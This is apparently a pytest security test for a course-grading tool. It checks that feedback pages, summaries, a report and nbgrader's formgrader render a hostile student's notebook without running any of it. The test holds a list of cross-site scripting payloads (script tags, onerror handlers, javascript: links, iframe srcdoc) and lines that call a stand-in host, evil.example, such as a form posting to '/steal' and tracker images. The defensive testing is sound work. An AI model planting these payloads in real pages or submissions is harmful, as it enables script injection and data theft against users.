"""Nothing a student wrote runs in anyone's browser; the students' pages need no network.

One class is graded with real ``nbgrader autograde`` and ``nbgrader
generate_feedback`` (the course's ``nbgrader_config.py``): alice is honest,
mallory's explanation holds every kind of payload below, her ``answer`` cell
displays hostile HTML, JavaScript and Markdown outputs, prints markup to stdout
and stderr and raises an error whose message is markup,
and her name in the gradebook is markup. Every page either of them or the
instructor opens is loaded in headless Chromium (Debian's, driven by
Playwright) with every request recorded, and its DOM is checked after load:

- exercise feedback ``feedback/<student>/<id>/<id>.html`` (both students);
- summary ``feedback/<student>/index.html`` (both);
- the instructor's report (``gradebook-tools report``);
- the formgrader's submission view, served by a real Jupyter server with
  nbgrader's formgrader extension from the course root.

Each payload, if it ran, would set ``window.pwned`` or open a dialog; none may,
no ``<script>`` of the student's may be in the DOM, no element may carry an
event handler, and nothing may be requested from ``evil.example``. The honest
parts still render: math as MathML, the Markdown table, the ``data:`` PNG,
bold text of an HTML output. The students' pages load nothing at all and show
no raw TeX or Markdown table syntax.
"""

from __future__ import annotations

import base64
import re
import socket
import struct
import subprocess
import sys
import time
import urllib.request
import zlib
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from gradebook_tools.cli import EXIT_OK, main
from gradebook_tools.pages.feedback_preprocessors import UNDRAWN_PLOTS
from gradebook_tools.pages.student_summary import write_student_summaries
from tests.support.course import fill_answers, nbgrader, solution_code

pytestmark = pytest.mark.slow

EXERCISE = "ex01_response_only_sft"


def _png(red: int, green: int, blue: int) -> str:
    """A 1x1 PNG of one colour, base64: a student's honest image, which must still display."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    pixels = zlib.compress(bytes([0, red, green, blue]))
    png = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", pixels)
        + chunk(b"IEND", b"")
    )
    return base64.b64encode(png).decode("ascii")


PNG = _png(200, 40, 40)
HOSTILE_NAME = "<img src=x onerror=\"window.pwned='name'\">Mallory"
#: Each line is one attack; what it would do if it ran names where it came from.
PAYLOADS = [
    "<script>window.pwned = 'script'</script>",
    "<img src=\"x\" onerror=\"window.pwned = 'onerror'; alert('onerror')\">",
    "[a markdown link](javascript:window.pwned='md-link')",
    "<a href=\"javascript:window.pwned='a-href'\">a raw link</a>",
    '<a href="data:text/html,<script>alert(1)</script>">a data link</a>',
    "<iframe srcdoc=\"<script>parent.pwned='iframe'</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert('object')</script>\"></object>",
    '<embed src="https://evil.example/embed.swf">',
    '<form action="https://evil.example/steal"><input name="q"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/style.css">',
    "<style>body { background: url(https://evil.example/style-tag.png) }</style>",
    '<div style="background-image: url(https://evil.example/style-attr.png)">styled</div>',
    '<img src="https://evil.example/tracker.png" alt="tracker">',
    '<svg onload="window.pwned=\'svg\'"><circle r="5"></circle></svg>',
    "<math><mi xlink:href=\"javascript:alert('mathml')\">m</mi></math>",
    "<details open ontoggle=\"window.pwned='details'\"><summary>s</summary></details>",
]
HOSTILE_EXPLANATION = "\n".join(
    [
        "My answer: the false win shows in $\\frac{\\text{wins}}{n}$, so I would watch",
        "",
        "| metric | why |",
        "| --- | --- |",
        "| win rate | <b>honest bold</b> |",
        "",
        f"![my plot](data:image/png;base64,{PNG})",
        "",
        *PAYLOADS,
    ]
)
HOSTILE_OUTPUTS = """
from IPython.display import HTML, Javascript, Markdown, display
display(HTML("<b>student html</b><img src=x onerror=\\"window.pwned='html-output'\\">"
             "<script>window.pwned='html-script'</script>"))
display(HTML("<p>isolated</p><script>window.pwned='isolated'</script>", metadata={"isolated": True}))
display(Javascript("window.pwned = 'js-output'"))
display(Markdown("<img src=x onerror=\\"window.pwned='md-output'\\"> *markdown output*"))
display({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "a widget"}, raw=True)
print("<script>window.pwned='stdout'</script>")
import sys
print("<img src=x onerror=\\"window.pwned='stderr'\\">", file=sys.stderr)
raise ValueError("<img src=x onerror=\\"window.pwned='traceback'\\">")
"""
HONEST_PARTS = ("honest bold", "student html", "markdown output")


@pytest.fixture(scope="module")
def course(make_course):
    """The class, autograded with real nbgrader, with every page written."""
    course = make_course([EXERCISE])
    release, solution = course.release(EXERCISE), solution_code(course.source(EXERCISE))
    course.submit("alice", EXERCISE, fill_answers(release, solution))
    course.submit(
        "mallory",
        EXERCISE,
        fill_answers(
            release, dict(solution, explanation=HOSTILE_EXPLANATION, answer=solution["answer"] + HOSTILE_OUTPUTS)
        ),
    )
    nbgrader("db", "student", "add", "mallory", f"--last-name={HOSTILE_NAME}", cwd=course.root)
    course.autograde(EXERCISE)
    nbgrader("generate_feedback", EXERCISE, cwd=course.root)
    write_student_summaries(course.root)
    assert main(["report", "--course", str(course.root), "--out", str(course.root / "report.html")]) == EXIT_OK
    return course


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@pytest.fixture(scope="module")
def formgrader(course, tmp_path_factory):
    """A real Jupyter server with nbgrader's formgrader, started in the course root: its base URL and token."""
    port, token = _free_port(), "pages-hostile-test"
    log_path = tmp_path_factory.mktemp("formgrader") / "jupyter_server.log"
    with open(log_path, "w") as log:
        server = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "jupyter_server",
                "--no-browser",
                "--allow-root",
                f"--port={port}",
                "--ServerApp.ip=127.0.0.1",
                f"--IdentityProvider.token={token}",
                f"--ServerApp.root_dir={course.root}",
            ],
            cwd=course.root,
            stdout=log,
            stderr=subprocess.STDOUT,
        )
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                with urllib.request.urlopen(f"{base}/api/status?token={token}", timeout=2) as response:
                    response.read()
                break
            except OSError:
                if server.poll() is not None or time.monotonic() > deadline:
                    pytest.fail(f"the Jupyter server did not start:\n{log_path.read_text()[-3000:]}")
                time.sleep(0.3)
        yield base, token
    finally:
        server.terminate()
        try:
            server.wait(timeout=20)
        except subprocess.TimeoutExpired:
            server.kill()
            server.wait()


class Loaded:
    """A page after load: what it requested, the dialogs it opened, and the page itself."""

    def __init__(self, page, requests: list[str], dialogs: list[str]):
        self.page, self.requests, self.dialogs = page, requests, dialogs

    def evaluate(self, script: str):
        return self.page.evaluate(script)


@pytest.fixture
def load(chromium):
    """``load(url, local_prefix)``: open a page; other requests than to ``local_prefix`` are recorded and blocked."""
    contexts = []

    def open_page(url: str, local_prefix: str = "file:") -> Loaded:
        context = chromium.new_context(viewport={"width": 1100, "height": 900})
        contexts.append(context)
        requests, dialogs = [], []

        def route(route):
            url_ = route.request.url
            if url_.startswith(local_prefix) or url_.startswith("data:"):
                route.continue_()
            else:
                requests.append(url_)
                route.abort()

        context.route("**/*", route)
        page = context.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(url)
        page.wait_for_load_state("load")
        page.wait_for_timeout(300)  # handlers of images that fail to load, timers
        return Loaded(page, requests, dialogs)

    yield open_page
    for context in contexts:
        context.close()


#: Everything in the DOM that would run or load something the student wrote.
DOM_PROBE = """() => {
  const all = [...document.querySelectorAll('*')];
  return {
    pwned: typeof window.pwned === 'undefined' ? null : String(window.pwned),
    studentScripts: [...document.scripts].filter(s => /pwned|alert/.test(s.text + s.src)).map(s => s.outerHTML),
    handlers: all.filter(e => [...e.attributes].some(a => a.name.startsWith('on')))
                 .filter(e => /pwned|alert/.test(e.outerHTML)).map(e => e.outerHTML.slice(0, 120)),
    jsLinks: [...document.querySelectorAll('a[href]')]
                 .filter(a => /^\\s*(javascript|data):/i.test(a.getAttribute('href'))).map(a => a.outerHTML),
    embedded: [...document.querySelectorAll('iframe, object, embed, form, base, meta[http-equiv=refresh]')]
                 .map(e => e.outerHTML.slice(0, 120)),
    styles: [...document.querySelectorAll('style, [style], link[rel=stylesheet]')]
                 .filter(e => /evil/.test(e.outerHTML)).map(e => e.outerHTML.slice(0, 120)),
    url: location.href,
  };
}"""


def assert_nothing_ran(loaded: Loaded, url: str) -> None:
    found = loaded.evaluate(DOM_PROBE)
    assert found["url"] == url, "the page navigated away (meta refresh?)"
    assert found["pwned"] is None, f"a payload ran: window.pwned = {found['pwned']!r}"
    assert loaded.dialogs == [], f"a payload opened dialogs: {loaded.dialogs}"
    for key in ("studentScripts", "handlers", "jsLinks", "embedded", "styles"):
        assert found[key] == [], f"{key} in the DOM: {found[key]}"
    assert not [request for request in loaded.requests if "evil.example" in request], loaded.requests


def assert_loads_nothing(loaded: Loaded) -> None:
    assert loaded.requests == [], f"the page requested {loaded.requests}"


def visible_prose(loaded: Loaded) -> str:
    """The page's visible text outside code, preformatted output and math."""
    return loaded.evaluate("""() => {
      const body = document.body.cloneNode(true);
      body.querySelectorAll('pre, code, math, .input_area, script, style').forEach(e => e.remove());
      return body.innerText;
    }""")


def feedback_page(course, student: str) -> Path:
    return course.root / "feedback" / student / EXERCISE / f"{EXERCISE}.html"


def cell_panel(loaded: Loaded, grade_id: str):
    """The panel nbgrader's feedback template draws for a graded cell."""
    return loaded.page.locator(
        f"xpath=//a[@name='{grade_id}']/following-sibling::div[contains(@class, 'panel-body')][1]"
    )


# ---------------------------------------------------------------- exercise feedback


def test_hostile_feedback_page_runs_nothing_and_loads_nothing(course, load):
    url = feedback_page(course, "mallory").as_uri()
    loaded = load(url)
    assert_nothing_ran(loaded, url)
    assert_loads_nothing(loaded)


def test_hostile_feedback_page_still_shows_the_honest_parts(course, load):
    loaded = load(feedback_page(course, "mallory").as_uri())
    text = loaded.page.inner_text("body")
    for honest in HONEST_PARTS:
        assert honest in text, f"{honest!r} is not shown"
    explanation = cell_panel(loaded, "explanation")
    assert explanation.locator("math mfrac").count() == 1, "the fraction is MathML"
    assert explanation.locator("table td", has_text="win rate").count() == 1, "the Markdown table is a table"
    image = explanation.locator("img[alt='my plot']")
    assert image.get_attribute("src") == f"data:image/png;base64,{PNG}"
    assert image.evaluate("img => img.complete && img.naturalWidth") == 1, "the data: PNG is drawn"
    assert "a widget" in text and "IPython.core.display.Javascript" in text, "dropped outputs fall back to text"


def test_honest_feedback_page_renders_offline(course, load):
    loaded = load(feedback_page(course, "alice").as_uri())
    assert_loads_nothing(loaded)
    prose = visible_prose(loaded)
    for raw in (r"\frac", "|---|", "| --- |", "\\mathbb"):
        assert raw not in prose, f"raw {raw!r} on the page"
    assert not re.search(r"\$[^$\n]+\$", prose), re.search(r"\$[^$\n]+\$", prose)
    grading = loaded.page.locator("blockquote table", has_text="graded test cells")
    assert grading.count() == 1, "the 'Grading (10 points)' table renders as a table"
    assert grading.locator("tr").count() >= 6
    assert loaded.page.locator("math").count() > 10, "the notebook's formulas are MathML"
    assert loaded.page.locator(".input_area .highlight .k").count() > 0, "code is highlighted"


def test_undrawn_plots_are_said_where_the_figure_would_be(course, load):
    release = course.release(EXERCISE)
    drawing = [cell for cell in release.cells if cell.cell_type == "code" and "plt.subplots(" in cell.source]
    assert drawing, "the exercise draws a figure"
    loaded = load(feedback_page(course, "alice").as_uri())
    notes = loaded.page.locator(".output_area", has_text=UNDRAWN_PLOTS)
    assert notes.count() == len(drawing)
    assert loaded.page.locator(".output_png img").count() == 0, "grading drew no figure"
    assert "<Figure size" not in loaded.page.inner_text("body")


# ---------------------------------------------------------------- summary and report


@pytest.mark.parametrize("student", ["alice", "mallory"])
def test_summary_pages_run_nothing_and_load_nothing(course, load, student):
    url = (course.root / "feedback" / student / "index.html").as_uri()
    loaded = load(url)
    assert_nothing_ran(loaded, url)
    assert_loads_nothing(loaded)
    if student == "mallory":
        assert HOSTILE_NAME in loaded.page.locator("h1").inner_text(), "the name is shown as text"


def test_report_runs_nothing_and_loads_nothing(course, load):
    url = (course.root / "report.html").as_uri()
    loaded = load(url)
    assert_nothing_ran(loaded, url)
    assert_loads_nothing(loaded)
    assert HOSTILE_NAME in loaded.page.locator("#student-table").inner_text(), "the name is shown as text"


# ---------------------------------------------------------------- the formgrader


def test_formgrader_submission_view_runs_nothing(course, formgrader, load):
    base, token = formgrader
    with Gradebook(course.db_url) as gradebook:
        submission = gradebook.find_submission_notebook(EXERCISE, EXERCISE, "mallory").id
    url = f"{base}/formgrader/submissions/{submission}/?token={token}"
    loaded = load(url, local_prefix=base)
    assert loaded.page.title() == EXERCISE, loaded.page.inner_text("body")[:500]
    found = loaded.evaluate(DOM_PROBE)
    assert found["url"].startswith(f"{base}/formgrader/submissions/{submission}/"), found["url"]
    assert found["pwned"] is None and loaded.dialogs == [], (found["pwned"], loaded.dialogs)
    for key in ("studentScripts", "handlers", "jsLinks", "embedded", "styles"):
        assert found[key] == [], f"{key} in the DOM: {found[key]}"
    assert not [request for request in loaded.requests if "evil.example" in request], loaded.requests
    text = loaded.page.inner_text("body")
    for honest in HONEST_PARTS:
        assert honest in text, f"{honest!r} is not shown to the grader"
    assert loaded.page.locator("math mfrac").count() >= 1
